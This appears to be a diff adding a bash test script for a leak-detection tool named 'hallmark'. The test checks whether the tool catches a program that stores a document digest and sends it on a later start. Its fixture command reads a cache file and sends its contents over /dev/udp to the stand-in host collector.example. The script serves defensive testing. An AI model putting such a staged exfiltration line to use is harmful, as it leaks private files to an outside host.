@@ -1,0 +1,56 @@
+#!/bin/bash
+# A program that keeps a digest of a document on disk, and sends at its next start what it finds there: nothing that one start sends depends on
+# content, and what the second sends does. A twin that always keeps the same has nothing to send, and is not started again.
+#   two-phase.sh BUILD
+set -u
+hallmark=$(realpath "$1/hallmark") verify=$(realpath "$1/hallmark-verify")
+[ "$(id -u)" = 0 ] || { echo "1..0 # SKIP needs root"; exit 0; }
+work=$(mktemp -d /var/tmp/hallmark-two-phase-XXXXXX)
+export HALLMARK_WORK=$work/w
+trap 'rm -rf "$work"' EXIT
+n=0 failed=0
+result() { # CONDITION-EXIT TEXT
+	n=$((n + 1))
+	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
+}
+"$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
+start='cd /var/lib; if [ -e cache ]; then printf "Cache: %%s\n" "$(cat cache)" >/dev/udp/collector.example/9000; fi; %s >cache; echo ran >/dev/udp/collector.example/9001'
+assess() { # NAME COMMAND
+	timeout 500 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
+	sed 's/^/# /' "$work/$1.err" | head -n 5
+}
+ask() { # NAME EXPRESSION: of the findings `f`, must be true
+	/usr/bin/python3 -c "
+import json, sys
+f = json.load(open(sys.argv[1]))
+content, kept = (next(c for c in f['claims'] if c['id'] == 'collect.' + name) for name in ('content', 'residue'))
+whole = lambda row: row['constant'] + row['explained'] + row['unaccounted'] + sum(i['bytes'] for i in row['influenced'])
+sys.exit(0 if $2 else 1)" "$work/$1.json"
+}
+verified() { "$verify" "$work/$1.hallmark" --key "$work/key.pem.pub" >"$work/said" && false || ! grep -q FALSE "$work/said" && grep -q 'sets, made again from the seed' "$work/said"; }
+
+assess leak "$(printf "$start" 'rev /srv/documents/note* | md5sum | cut -c 1-16')"
+ask leak "f['experiment']['send'] == 8"
+result $? "what a program kept makes it start again"
+ask leak "(content['verdict'], content['reason'], content['values']['stored']) == ('refuted', 'influence.confirmed', content['values']['features'])"
+result $? "... what it then sends depends on content"
+ask leak "[(i['endpoint'], i['feature'][:2], i['p']['phase']) for i in f['influence'] if i['endpoint'] != 'disk' and 'cache' in i['feature'].lower() or 'data' in i['feature']] == [('collector.example:9000/udp', '0.', 'send')]"
+result $? "... by the field that says it"
+ask leak "(kept['verdict'], kept['reason']) == ('refuted', 'residue.sent')"
+result $? "... and so what it keeps is refuted"
+ask leak "all(whole(row) == row['wire'] for row in f['ledger']) and {row['endpoint'] for row in f['ledger']} >= {'collector.example:9000/udp', 'collector.example:9001/udp'}"
+result $? "... every byte stands in one class"
+verified leak
+result $? "... its bundle verifies"
+
+assess twin "$(printf "$start" 'wc -c </srv/documents/note*; echo scanned')"
+ask twin "f['experiment']['send'] == 0 and (kept['verdict'], kept['reason']) == ('upheld', 'residue.equal')"
+result $? "its twin kept the same, and is not started again"
+ask twin "content['verdict'] != 'refuted' and content['reason'] != 'run.missing' and not f['influence']"
+result $? "... which is no gap"
+verified twin
+result $? "... its bundle verifies"
+[ -z "$(ls -A "$work/w" 2>/dev/null | grep chamber)" ]
+result $? "nothing stays"
+echo "1..$n"
+exit $failed
